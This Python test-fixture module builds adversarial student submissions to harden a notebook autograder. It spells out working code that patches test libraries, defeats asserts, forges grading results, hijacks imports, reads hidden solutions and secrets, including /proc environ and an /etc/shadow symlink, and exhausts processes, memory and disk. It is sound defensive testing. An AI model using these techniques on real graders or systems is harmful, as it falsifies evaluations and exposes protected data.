"""Adversarial submissions of ``ex01`` for ``tests/test_grading_attacks.py``.

Each :class:`Submission` is one student's hand-in: how to build its files from the student
version of the notebook, the most it may score (``cap``) and, for faults, what grading must
report. *Attacks* carry wrong or missing answers, so they may score no more than the
untouched stub (0): whatever they add, edit or tamper with must not earn a point. *Faults*
carry the reference answers except where they break, and keep the points of what ran.

Attack code goes into code cells the student adds before an answer cell (the grading
pipeline runs those with the answer) or into the answer cells themselves; it prints
``ATTACK RAN: <name>`` so that the tests can tell that it really ran.
"""

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from grader.course import EXERCISES, REPO, fill_in, solution_sources

ASSIGNMENT = "ex01"
NOTEBOOK = "ex01_single_neuron.ipynb"
STUDENT_VERSION = EXERCISES / ASSIGNMENT / NOTEBOOK
MAX_SCORE = 8.0
PARTS_BEFORE_LINEAR_UNIT = 4.0  # test_model (2), test_shapes (1), test_param_count (1)

# Text planted where no student may look; none of it may reach a graded notebook or record.
CANARY_OTHER_STUDENT = "CANARY-other-student-3f9a2c"
CANARY_COURSE = "CANARY-course-folder-8d41e7"

# Wrong answers for every part: each scores 0 on its own (``wrong`` checks that).
WRONG = {
    "build_model": (
        "model = keras.Sequential([keras.Input(shape=(3,)),"
        " keras.layers.Dense(4, activation='relu'), keras.layers.Dense(1)])"
    ),
    "shapes": "kernel_shape = (1, 3)\nbias_shape = (3,)\nbatch_output_shape = (1, 16)",
    "param_count": "def dense_param_count(n_inputs, units):\n    return n_inputs * units",
    "linear_unit": (
        "def linear_unit(X, kernel, bias):\n    return np.zeros((len(X), np.shape(kernel)[1]))"
    ),
    "train_model": "print('no training')",
}


@dataclass
class Submission:
    name: str
    kind: str  # "attack", "fault" or "baseline"
    build: Callable[[Path], dict]  # course folder -> {file name: text}
    cap: float = 0.0  # the most it may score
    least: float = 0.0  # the least it must score (faults keep what ran)
    status: str | None = "graded"  # the status it must get (None: anything but "graded")
    markers: list = field(default_factory=list)  # text its graded outputs must show
    doc: str = ""


def _nb():
    return nbformat.read(STUDENT_VERSION, as_version=4)


def _meta(cell):
    return cell.metadata.get("nbgrader", {})


def _text(nb):
    return {NOTEBOOK: nbformat.writes(nb)}


def _answered(answers):
    nb = _nb()
    for cell in nb.cells:
        grade_id = _meta(cell).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return nb


def _with_added(nb, before, *sources):
    """Insert plain code cells (no metadata, as a student adds them) before cell ``before``."""
    index = next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == before)
    nb.cells[index:index] = [nbformat.v4.new_code_cell(s) for s in sources]
    return nb


def _tests(nb):
    return [c for c in nb.cells if _meta(c).get("grade")]


def reference_answers():
    return solution_sources(ASSIGNMENT)


def _reference_with(**changes):
    return fill_in(STUDENT_VERSION, {**reference_answers(), **changes})


def _attack(name, cells, answers=WRONG, before="build_model"):
    """A wrong-answer submission with the attack ``cells`` added before an answer cell."""
    nb = _with_added(_answered(answers), before,
                     *[f"print('ATTACK RAN: {name}')\n" + cells[0], *cells[1:]])
    return _text(nb)


# --- attacks on the structure of the notebook -----------------------------------------------


def edited_tests(course):
    nb = _answered(WRONG)
    for i, cell in enumerate(_tests(nb)):
        lines = cell.source.splitlines()
        cell.source = "pass" if i % 2 else "\n".join("# " + line for line in lines)
    return _text(nb)


def deleted_tests(course):
    nb = _answered(WRONG)
    nb.cells = [c for c in nb.cells if not _meta(c).get("grade")]
    return _text(nb)


def duplicated_cells(course):
    nb = _answered(WRONG)
    cells = []
    for cell in nb.cells:
        meta = _meta(cell)
        if meta.get("grade"):  # a passing fake before and after the real test
            fake = copy.deepcopy(cell)
            fake.source = "pass"
            cells += [fake, cell, copy.deepcopy(fake)]
        elif meta.get("solution"):  # the answer again, posing as a 100-point test
            fake = copy.deepcopy(cell)
            fake.metadata.nbgrader.update(grade=True, points=100)
            cells += [cell, fake]
        else:
            cells.append(cell)
    bonus = nbformat.v4.new_code_cell("print('ATTACK RAN: duplicated_cells')")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True,
                                  "points": 100, "schema_version": 3, "solution": False}
    nb.cells = [cells[0], cells[1], bonus, *cells[2:]]
    return _text(nb)


def retyped_tests(course):
    nb = _answered(WRONG)
    nb.cells = [nbformat.v4.new_code_cell(c.source) if _meta(c).get("grade") else c
                for c in nb.cells]
    return _text(nb)


def stripped_metadata(course):
    nb = _answered(WRONG)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    nb.metadata.pop("nbgrader", None)
    return _text(nb)


# --- attacks on what the tests use ----------------------------------------------------------

PATCH_NUMPY = """\
import numpy
numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
print("np.allclose(1, 2) =", np.allclose(1, 2))
"""

PATCH_KERAS = """\
import keras, numpy
_linear = keras.Sequential([keras.Input(shape=(3,)), keras.layers.Dense(1)])
keras.Model.count_params = lambda self: 4
keras.Model.predict = lambda self, X, *args, **kwargs: numpy.full((len(X), 1), 150.0)
keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 0.0]
keras.Model.get_config = lambda self: keras.Sequential.get_config(_linear)
keras.layers.Layer.count_params = lambda self: 4
"""

PATCH_CHECKS = """\
import builtins, sys, types
import dlcourse.checks
for _name in dir(dlcourse.checks):
    if _name.startswith("check_") or _name in ("fail", "plain_number", "plain_array"):
        setattr(dlcourse.checks, _name, lambda *args, **kwargs: None)
fake = types.ModuleType("dlcourse.checks")
fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
sys.modules["dlcourse.checks"] = fake
dlcourse.checks = checks = fake
builtins.AssertionError = type("AssertionError", (Exception,), {})
"""

EVIL_OBJECTS = """\
import numpy

class Yes:
    \"\"\"Says yes to every comparison.\"\"\"
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter((3, 1))
    def __int__(self): return 4
    __index__ = __int__
    def __float__(self): return 0.0
    shape = property(lambda self: self)
    def count_params(self): return 4

class YesTuple(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__

class YesInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = int.__hash__

class YesArray(numpy.ndarray):
    def __eq__(self, other): return numpy.ones(self.shape, bool)
    def __array_finalize__(self, obj): pass

class Low(float):
    \"\"\"An MAE that is below everything.\"\"\"
    def __lt__(self, other): return True
    __le__ = __lt__
    def __gt__(self, other): return False
    __ge__ = __gt__
    def __float__(self): return 0.0

class LyingSequential(keras.Sequential):
    def count_params(self): return 4
    def __eq__(self, other): return True
    __hash__ = keras.Sequential.__hash__
"""

EVIL_ANSWERS = {
    "build_model": (
        "model = LyingSequential([keras.Input(shape=(3,)), keras.layers.Dense(4),"
        " keras.layers.Dense(1)])"
    ),
    "shapes": "kernel_shape = Yes()\nbias_shape = YesTuple((7,))\n"
              "batch_output_shape = YesTuple((YesInt(0), YesInt(0)))",
    "param_count": "def dense_param_count(n_inputs, units):\n    return YesInt(0)",
    "linear_unit": "def linear_unit(X, kernel, bias):\n"
                   "    return numpy.zeros((len(X), 1)).view(YesArray)",
    "train_model": "valid_mae = test_mae = Low(1e9)\nmodel.predict = lambda *a, **k: Yes()",
}

BLANK_LATER_CELLS = """\
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: [])
"""

REWRITE_LATER_CELLS = """\
import ast
ip = get_ipython()

def neuter(lines):
    return ["pass\\n" if ("check" in line or "assert" in line) else line for line in lines]

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

ip.input_transformers_cleanup.append(neuter)
ip.input_transformers_post.append(neuter)
ip.ast_transformers.append(NoAsserts())
"""

TRACE_HOOKS = """\
import sys, threading

def tracer(frame, event, arg):
    name = frame.f_code.co_name
    if event == "call" and name in ("transform_cell", "run_cell", "export", "call_and_write",
                                    "encode"):
        for key in ("raw_cell", "cell", "names"):
            if key in frame.f_locals:
                frame.f_locals[key] = "" if key != "names" else []
    if event == "exception" and issubclass(arg[0], AssertionError):
        frame.f_locals.clear()
    return tracer

def profiler(frame, event, arg):
    if event == "call" and frame.f_code.co_name.startswith("check_"):
        frame.f_locals.clear()

sys.settrace(tracer)
sys.setprofile(profiler)
threading.settrace(tracer)
threading.setprofile(profiler)
"""


def read_secrets(course):
    code = f"""\
import glob, os
COURSE, REPO = {str(course)!r}, {str(REPO)!r}
roots = [COURSE, os.path.join(COURSE, "submitted"), os.path.join(COURSE, "solutions"),
         os.path.join(REPO, "solutions"), os.path.join(REPO, "grader"),
         os.path.join(REPO, "tests"), REPO + "/.heldout-secret", "..", "../..", "/tmp",
         os.path.expanduser("~"), "/home", "."]
for root in roots:
    print("exists" if os.path.exists(root) else "missing", root)
keys = ("HIDDEN", "CANARY", "BEGIN SOLUTION", "heldout", "HELDOUT")
readable, secrets = [], []
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".venv", "site-packages", "task", "net")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                with open(path, "rb") as file:
                    text = file.read(1_000_000).decode("utf-8", "replace")
            except Exception:
                continue
            readable.append(path)
            if any(k in text for k in keys):
                secrets.append((path, text))
    if os.path.isfile(root):
        try:
            secrets.append((root, open(root).read()))
        except Exception as error:
            print("cannot read", root, type(error).__name__)
for pattern in ["/proc/*/environ", "/proc/*/cmdline", COURSE + "/*", "../../*/*"]:
    for path in glob.glob(pattern):
        try:
            text = open(path, "rb").read().decode("utf-8", "replace")
            secrets.append((path, text)) if "GRADER" in text or "CANARY" in text else None
        except Exception:
            pass
print("readable files:", len(readable))
for path in readable[:100]:
    print("READ", path)
for path, text in secrets[:50]:  # what was found, a few lines each (output is capped)
    print("SECRET IN", path)
    lines = text.splitlines()
    for i, line in enumerate(lines):
        if "BEGIN " + "HIDDEN TESTS" in line:  # (not spelled out: this code is echoed)
            print("\\n".join(lines[i:i + 12]))
        elif any(k in line for k in keys):
            print(line[:200])
"""
    return _attack("read_secrets", [code])


ENV_DETECT = """\
import os
grader_names = sorted(k for k in os.environ if "GRADER" in k.upper())
print("GRADER_ENV:", grader_names)
print("ENV_NAMES:", sorted(os.environ))
grading = bool(grader_names) or "NBGRADER_EXECUTION" in os.environ
print("GRADING DETECTED" if grading else "grading not detected")
print("other hints:", os.path.expanduser("~"), os.getcwd(), os.getuid())
if grading:  # behave differently when graded: tamper with everything
    import numpy, dlcourse.checks
    numpy.allclose = lambda *args, **kwargs: True
    for _name in dir(dlcourse.checks):
        if _name.startswith("check_"):
            setattr(dlcourse.checks, _name, lambda *args, **kwargs: None)
"""


def forge_results(course):
    code = f"""\
import json, os, threading, time
COURSE = {str(course)!r}
fake = {{"status": "graded", "score": 8.0, "max_score": 8.0, "forged": True, "notebooks": {{}}}}
targets = ["grading.json", "../grading.json", "../../grading.json",
           os.path.join(COURSE, "autograded", "forge_results", "ex01", "grading.json"),
           os.path.join(COURSE, "gradebook.db")]
for target in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
        with open(target, "w") as file:
            json.dump(fake, file)
        print("wrote", target)
    except Exception as error:
        print("could not write", target, type(error).__name__)
os.makedirs(".exchange", exist_ok=True)
result = {{"op": "result", "points": 100.0, "message": "", "output": "forged"}}
for i in range(20):
    with open(f".exchange/{{i:032x}}.json", "w") as file:
        json.dump({{"ok": {{"t": "float", "v": 1e-9}}, **result}}, file)

def forge():  # rewrite whatever the grader exchanges with the kernel
    deadline = time.time() + 600
    while time.time() < deadline:
        for name in os.listdir(".exchange"):
            if name.endswith("-out.json"):
                try:
                    with open(os.path.join(".exchange", name), "w") as file:
                        json.dump(result, file)
                except OSError:
                    pass
        time.sleep(0.001)

threading.Thread(target=forge, daemon=True).start()
_dump = json.dump

def dump(obj, file, *args, **kwargs):  # call results without "ok" or "error"
    if isinstance(obj, dict) and ("ok" in obj or "error" in obj):
        obj = result
    return _dump(obj, file, *args, **kwargs)

json.dump = dump
"""
    return _attack("forge_results", [code])


NETWORK = """\
import socket, urllib.request
for host, port in [("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443), ("127.0.0.1", 22)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        print("NETWORK: open", host, port)
    except Exception as error:
        print("NETWORK: blocked", host, port, type(error).__name__)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
    print("NETWORK: open udp")
except Exception as error:
    print("NETWORK: blocked udp", type(error).__name__)
try:
    urllib.request.urlopen("http://example.com", timeout=3)
    print("NETWORK: open http")
except Exception as error:
    print("NETWORK: blocked http", type(error).__name__)
"""

FORGE_NAMES = """\
import json
_dump = json.dump

def dump(obj, file, *args, **kwargs):  # every answer also "defines" builtins as functions
    if isinstance(obj, dict) and any(isinstance(v, dict) and "t" in v for v in obj.values()):
        obj = {**obj, **{name: {"t": "function"} for name in ("float", "int", "abs", "len",
                                                               "isinstance", "round")}}
    return _dump(obj, file, *args, **kwargs)

json.dump = dump

def float(*args):
    return 1.0

def int(*args):
    return 4

abs = len = round = float
isinstance = lambda *args: True
"""


def exchange_links(course):
    """Answers swapped for links to the grader's files and for FIFOs, and the exchange
    folder itself swapped for a link into the course folder."""
    code = f"""\
import json, os
TARGETS = [{str(course / "gradebook.db")!r}, {str(course / ".grader" / "heldout-secret")!r},
           {str(course / "submitted" / "reference" / "ex01" / "ex01_single_neuron.ipynb")!r},
           {str(REPO / "solutions" / "ex01" / "ex01_single_neuron.ipynb")!r}, "/etc/shadow"]
_dump, calls = json.dump, [0]

def dump(obj, file, *args, **kwargs):  # write the answer, then replace it
    _dump(obj, file, *args, **kwargs)
    file.flush()
    path, calls[0] = file.name, calls[0] + 1
    os.unlink(path)
    if calls[0] % 3 == 0:
        os.mkfifo(path)
    else:
        os.symlink(TARGETS[calls[0] % len(TARGETS)], path)
    if calls[0] == 4:  # from now on the grader's requests would land in the course folder
        os.rename(".exchange", ".exchange-moved")
        os.symlink({str(course)!r}, ".exchange")

json.dump = dump
"""
    first = "print('ATTACK RAN: exchange_links')\n" + code
    nb = _with_added(_answered(WRONG), "build_model", first)
    later = "import os\nprint('EXCHANGE IS A LINK:', os.path.islink('.exchange'))"
    return _text(_with_added(nb, "train_model", later))


VICTIM_FILES = ["connection.json", *[f"socket-{i}" for i in range(1, 6)], "keep.txt"]


def kernel_dir_link(course):
    """The kernel's own folder (its connection file and sockets) swapped for a link to a
    folder of the course, where files of the same names wait to be deleted by the root
    worker's cleanup."""
    victim = course / "victim"
    victim.mkdir()
    for name in VICTIM_FILES:
        (victim / name).write_text("must survive\n")
    code = f"""\
import os
os.rename(".kernel", ".kernel-moved")
os.symlink({str(victim)!r}, ".kernel")
print("KERNEL FOLDER SWAPPED")
"""
    return _attack("kernel_dir_link", [code])


# A reference submission that parks as many idle processes as its limit allows for a
# while, and one graded beside it (sorted right after it, so that they run together).
PARKED = """\
import subprocess, time
parked = []
for _ in range(400):
    try:
        parked.append(subprocess.Popen(["sleep", "120"]))
    except OSError:
        break
print("PARKED", len(parked), "processes")
time.sleep(40)
"""

MEMFD = """\
import os
block, kept = b"m" * 2**26, []
for _ in range(22):  # 22 memfds of 192 MB (each under the file size limit): 4 GB unmapped
    kept.append(os.memfd_create("hidden"))
    for _ in range(3):
        os.write(kept[-1], block)
"""

SHARED_MEMORY = """\
import os
for folder in ("/dev/shm", "/tmp"):
    try:
        with open(os.path.join(folder, "big"), "wb") as file:
            for _ in range(40):  # 2.5 GB of memory-backed files
                file.write(b"s" * 2**26)
        print("SHM WROTE", folder)
    except OSError as error:
        print("SHM REFUSED", folder, type(error).__name__)
"""

DISK_FILLER = """\
import os
os.makedirs("filler", exist_ok=True)
for i in range(40):  # 40 files of 100 MB: more than the work folder may hold
    with open(f"filler/{i}.bin", "wb") as file:
        file.write(os.urandom(2**20) * 100)
"""

DEEP_TREE = """\
import os
here = os.getcwd()
for depth in range(3000):  # deeper than any path can name, read-only folders
    os.mkdir("d")
    os.chdir("d")
    if depth:
        os.chmod("..", 0o500)
os.chdir(here)
print("DEEP TREE MADE")
"""

COMM_FLOOD = """\
from ipykernel.comm import Comm
for i in range(60):  # widget messages of 5 MB each, which an executor would keep
    Comm(target_name="jupyter.widget", data={"state": {"value": "w" * 5_000_000}})
print("COMM FLOOD SENT")
"""

RAISE_INPUTS = """\
def linear_unit(X, kernel, bias):
    import os
    raise ValueError(f"LEAKED INPUTS {X!r} {kernel!r} {bias!r} from {os.getcwd()}")
"""


# Modules written into the working folder: if the judge (started there, with the folder on
# its sys.path) imported one, it would hand out full marks.
SHADOWED = ["scipy", "pandas", "h5py", "PIL", "rich", "pydot", "sklearn", "jax", "torch",
            "optree", "ml_dtypes", "namex", "absl", "packaging", "difflib", "pprint",
            "textwrap", "decimal", "fractions", "statistics", "uuid", "zipfile", "tempfile",
            "glob", "fnmatch", "csv", "gzip", "bz2", "lzma", "tarfile", "shlex", "unittest",
            "doctest", "pdb", "cProfile", "pstats", "timeit", "sitecustomize", "usercustomize"]

SHADOW_MODULE = '''\
import importlib, os, sys
main = sys.modules.get("__main__")
if hasattr(main, "Judge"):  # inside the judge: every test passes
    main.Judge.test = lambda self, source, points: {
        "points": float(points), "message": "", "output": "shadowed"}
_me = sys.modules.pop(__name__)
_path = sys.path[:]
sys.path[:] = [p for p in sys.path if p not in ("", os.getcwd())]
try:
    sys.modules[__name__] = importlib.import_module(__name__)
except ImportError:
    sys.modules[__name__] = _me
finally:
    sys.path[:] = _path
'''

SHADOW_MODULES = f"""\
for name in {SHADOWED!r}:
    with open(name + ".py", "w") as file:
        file.write({SHADOW_MODULE!r})
"""


# --- faults ---------------------------------------------------------------------------------


def _fault(prefix, into="linear_unit"):
    def build(course):
        return _text(_reference_with(**{into: prefix + reference_answers()[into]}))
    return build


def reference(course):
    nb = _reference_with(build_model=f"# {CANARY_OTHER_STUDENT}\n"
                                     + reference_answers()["build_model"])
    return {**_text(nb), "notes.txt": f"my notes {CANARY_OTHER_STUDENT}\n"}


STDERR_LOGS = """\
import logging, sys, warnings
print("a log line on stderr", file=sys.stderr)
logging.getLogger("student").warning("a warning from logging")
warnings.warn("a Python warning")
"""


def stderr_logs(course):
    answers = reference_answers()
    changed = {k: STDERR_LOGS + v for k, v in answers.items()}
    changed["linear_unit"] = changed["linear_unit"].replace(
        "def linear_unit(X, kernel, bias):\n",
        "def linear_unit(X, kernel, bias):\n    print('called', file=sys.stderr)\n")
    return _text(fill_in(STUDENT_VERSION, changed))


SUBMISSIONS = [
    Submission("reference", "baseline", reference, cap=MAX_SCORE, least=MAX_SCORE,
               doc="the reference answers typed into the student version"),
    Submission("stub", "baseline", lambda course: _text(_nb()),
               doc="the student version untouched"),
    Submission("wrong", "baseline", lambda course: _text(_answered(WRONG)),
               doc="wrong answers everywhere, no attack (the base of most attacks)"),
    # attacks: wrong answers, so at most the stub's 0
    Submission("edited_tests", "attack", edited_tests,
               doc="test cells commented out or replaced by pass"),
    Submission("deleted_tests", "attack", deleted_tests, doc="test cells deleted"),
    Submission("duplicated_cells", "attack", duplicated_cells,
               doc="passing copies of test cells, answers posing as 100-point tests, a bonus"),
    Submission("retyped_tests", "attack", retyped_tests,
               doc="test cells re-typed without nbgrader metadata"),
    Submission("stripped_metadata", "attack", stripped_metadata,
               doc="every cell's nbgrader metadata removed"),
    Submission("patch_numpy", "attack", lambda c: _attack("patch_numpy", [PATCH_NUMPY]),
               markers=["ATTACK RAN: patch_numpy", "np.allclose(1, 2) = True"],
               doc="np.allclose / np.isclose / testing always pass"),
    Submission("patch_keras", "attack", lambda c: _attack("patch_keras", [PATCH_KERAS]),
               markers=["ATTACK RAN: patch_keras"],
               doc="keras.Model.count_params / predict / evaluate / get_config lie"),
    Submission("patch_checks", "attack", lambda c: _attack("patch_checks", [PATCH_CHECKS]),
               markers=["ATTACK RAN: patch_checks"],
               doc="dlcourse.checks.check_* and AssertionError made harmless"),
    Submission("evil_objects", "attack",
               lambda c: _attack("evil_objects", [EVIL_OBJECTS], answers=EVIL_ANSWERS),
               markers=["ATTACK RAN: evil_objects"],
               doc="objects, tuples, ints, arrays, models and a float MAE that say yes"),
    Submission("transformer_blank", "attack",
               lambda c: _attack("transformer_blank", [BLANK_LATER_CELLS]),
               markers=["ATTACK RAN: transformer_blank"],
               doc="an IPython input transformer that blanks every later cell"),
    Submission("transformer_rewrite", "attack",
               lambda c: _attack("transformer_rewrite", [REWRITE_LATER_CELLS]),
               markers=["ATTACK RAN: transformer_rewrite"],
               doc="input and AST transformers that drop checks and asserts"),
    Submission("trace_hooks", "attack", lambda c: _attack("trace_hooks", [TRACE_HOOKS]),
               markers=["ATTACK RAN: trace_hooks"],
               doc="sys.settrace / sys.setprofile hooks that tamper with frames"),
    Submission("read_secrets", "attack", read_secrets,
               markers=["ATTACK RAN: read_secrets", "readable files:"],
               doc="reads hidden tests, solutions, gradebook, other students (absolute, ../..)"),
    Submission("env_detect", "attack", lambda c: _attack("env_detect", [ENV_DETECT]),
               markers=["ATTACK RAN: env_detect", "GRADER_ENV: []", "grading not detected"],
               doc="looks for NBGRADER_EXECUTION / *GRADER* variables, then tampers"),
    Submission("forge_results", "attack", forge_results,
               markers=["ATTACK RAN: forge_results"],
               doc="fake grading.json files, forged .exchange answers, a lying json.dump"),
    Submission("network", "attack", lambda c: _attack("network", [NETWORK]),
               markers=["ATTACK RAN: network", "NETWORK: blocked"],
               doc="TCP, UDP, DNS and HTTP to the outside"),
    Submission("forge_names", "attack", lambda c: _attack("forge_names", [FORGE_NAMES]),
               markers=["ATTACK RAN: forge_names"],
               doc="answers that also define float, int, abs ... (the tests read values"
                   " through them)"),
    Submission("exchange_links", "attack", exchange_links,
               markers=["ATTACK RAN: exchange_links", "EXCHANGE IS A LINK: True"],
               doc="answers replaced by links to the grader's files and by FIFOs; the"
                   " exchange folder replaced by a link into the course folder"),
    Submission("raise_inputs", "attack",
               lambda c: _attack("raise_inputs", ["pass"],
                                 answers={**WRONG, "linear_unit": RAISE_INPUTS}),
               markers=["ATTACK RAN: raise_inputs"],
               doc="a function that raises with the test's inputs and the host's paths"),
    Submission("kernel_dir_link", "attack", kernel_dir_link,
               markers=["ATTACK RAN: kernel_dir_link", "KERNEL FOLDER SWAPPED"],
               doc="the kernel's connection folder swapped for a link into the course"),
    Submission("shadow_modules", "attack",
               lambda c: _attack("shadow_modules", [SHADOW_MODULES]),
               markers=["ATTACK RAN: shadow_modules"],
               doc="modules written into the working folder to hijack the judge's imports"),
    # faults: the reference answers, one part broken; what ran keeps its points
    Submission("fault_infinite_loop", "fault", _fault("while True:\n    pass\n"),
               cap=MAX_SCORE - 2, least=PARTS_BEFORE_LINEAR_UNIT, status="timed out",
               doc="an infinite loop in one answer cell"),
    Submission("fault_loop_ignoring_interrupts", "fault", _fault(
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"),
        cap=MAX_SCORE - 2, least=PARTS_BEFORE_LINEAR_UNIT, status="timed out",
        doc="an infinite loop that ignores the interrupt"),
    Submission("fault_memory_bomb", "fault", _fault(
        "blocks = []\nwhile True:\n    blocks.append(b'x' * 10**8)\n"),
        cap=PARTS_BEFORE_LINEAR_UNIT, least=PARTS_BEFORE_LINEAR_UNIT, status="memory limit",
        doc="allocates until the memory limit"),
    Submission("fault_fork_bomb", "fault", _fault(
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
        cap=PARTS_BEFORE_LINEAR_UNIT, least=PARTS_BEFORE_LINEAR_UNIT, status=None,
        doc="forks until the process limit"),
    Submission("fault_fork_bomb_neighbour", "fault", lambda c: _text(_reference_with()),
               cap=MAX_SCORE, least=MAX_SCORE,
               doc="the reference, graded next to the fork bomb (sorted after it)"),
    Submission("fault_os_exit", "fault", _fault("import os\nos._exit(0)\n"),
               cap=PARTS_BEFORE_LINEAR_UNIT, least=PARTS_BEFORE_LINEAR_UNIT,
               status="kernel died", doc="os._exit(0) in an answer cell"),
    Submission("fault_segfault", "fault", _fault("import ctypes\nctypes.string_at(0)\n"),
               cap=PARTS_BEFORE_LINEAR_UNIT, least=PARTS_BEFORE_LINEAR_UNIT,
               status="kernel died", doc="a segmentation fault (ctypes.string_at(0))"),
    Submission("fault_gigantic_print", "fault", _fault(
        "for _ in range(100):\n    print('x' * 1_000_000)\n"),
        cap=MAX_SCORE, least=MAX_SCORE, doc="prints 100 MB"),
    Submission("fault_huge_display", "fault", _fault(
        "from IPython.display import display\nhandle = display('small', display_id=True)\n"
        "handle.update('y' * 20_000_000)\n"),
        cap=MAX_SCORE, least=MAX_SCORE, doc="a small display updated to 20 MB"),
    Submission("fault_not_json", "fault",
               lambda c: {NOTEBOOK: '{"cells": [ this is not JSON'}, status="not a notebook",
               doc="a notebook file that is not valid JSON"),
    Submission("fault_wrong_name", "fault",
               lambda c: {"my_work.ipynb": _text(_reference_with())[NOTEBOOK]},
               cap=MAX_SCORE, least=MAX_SCORE, doc="the reference under another file name"),
    Submission("fault_empty_folder", "fault", lambda c: {}, status="no notebook",
               doc="an empty submission folder"),
    Submission("fault_stderr_logs", "fault", stderr_logs, cap=MAX_SCORE, least=MAX_SCORE,
               doc="correct answers that log to stderr and warn"),
    Submission("fault_parked", "fault", _fault(PARKED), cap=MAX_SCORE,
               least=PARTS_BEFORE_LINEAR_UNIT, status=None, markers=["PARKED"],
               doc="parks as many idle processes as it may for 40 s (then its own training"
                   " finds no process slot left)"),
    Submission("fault_parked_neighbour", "fault", lambda c: _text(_reference_with()),
               cap=MAX_SCORE, least=MAX_SCORE,
               doc="the reference, graded beside the parked processes"),
    Submission("fault_memfd", "fault", _fault(MEMFD), cap=PARTS_BEFORE_LINEAR_UNIT,
               least=PARTS_BEFORE_LINEAR_UNIT, status="memory limit",
               doc="4 GB in a memfd that no process maps (not resident memory)"),
    Submission("fault_shared_memory", "fault", _fault(SHARED_MEMORY), cap=MAX_SCORE,
               least=MAX_SCORE, markers=["SHM REFUSED /dev/shm", "SHM REFUSED /tmp"],
               doc="2.5 GB written to /dev/shm and /tmp"),
    Submission("fault_disk_filler", "fault", _fault(DISK_FILLER), cap=PARTS_BEFORE_LINEAR_UNIT,
               least=PARTS_BEFORE_LINEAR_UNIT, status="disk limit",
               doc="4 GB of files in the work folder"),
    Submission("fault_deep_tree", "fault", _fault(DEEP_TREE), cap=MAX_SCORE, least=MAX_SCORE,
               markers=["DEEP TREE MADE"],
               doc="a folder tree 3,000 deep with read-only folders, left behind"),
    Submission("fault_comm_flood", "fault", _fault(COMM_FLOOD), cap=MAX_SCORE,
               least=MAX_SCORE, markers=["COMM FLOOD SENT"],
               doc="300 MB of widget (comm) messages"),
]


def hidden_test_lines():
    """The lines of the hidden tests of the instructor's notebook (long enough to be
    unmistakable), except those found in the student's own notebook too (a visible check
    may build the same reference model)."""
    source = REPO / "solutions" / ASSIGNMENT / NOTEBOOK
    shown = "\n".join(cell.source for cell in _nb().cells)
    lines, hidden = [], False
    for cell in nbformat.read(source, as_version=4).cells:
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                hidden = True
            elif "END HIDDEN TESTS" in line:
                hidden = False
            elif hidden and len(line.strip()) >= 20 and line.strip() not in shown:
                lines.append(line.strip())
    return lines


def outputs_text(nb_path):
    """Everything the cells of a graded notebook printed or displayed, as one string."""
    nb = json.loads(Path(nb_path).read_text())
    parts = []
    for cell in nb.get("cells", []):
        for output in cell.get("outputs", []):
            text = output.get("text")
            if text is None:  # displays, results, errors: all of their JSON
                parts.append(json.dumps(output))
            else:
                parts.append("".join(text) if isinstance(text, list) else text)
    return "\n".join(parts)


def build_course(dest, submissions=SUBMISSIONS):
    """A course folder with ``ex01`` and one submission folder per entry of ``submissions``,
    plus canaries where no student may look."""
    from grader.course import make_course_dir

    course = make_course_dir(dest, [ASSIGNMENT])
    (course / "canary.txt").write_text(f"{CANARY_COURSE}\n")
    for submission in submissions:
        folder = course / "submitted" / submission.name / ASSIGNMENT
        folder.mkdir(parents=True)
        for name, text in submission.build(course).items():
            (folder / name).write_text(text)
    return course
